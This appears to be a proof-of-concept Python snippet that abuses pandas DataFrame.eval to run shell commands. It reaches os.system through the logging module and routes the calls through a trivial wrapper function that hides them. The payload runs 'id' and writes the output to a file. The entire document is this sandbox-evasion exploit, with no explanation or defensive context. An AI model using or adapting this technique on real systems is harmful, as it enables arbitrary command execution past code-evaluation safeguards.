def my_go(f, *a, **k):
    return f(*a, **k)
import pandas as pd
import logging
my_go(my_go(pd.DataFrame, {'a': [1]}).eval, "b = @logging.os.system('id>pf')")
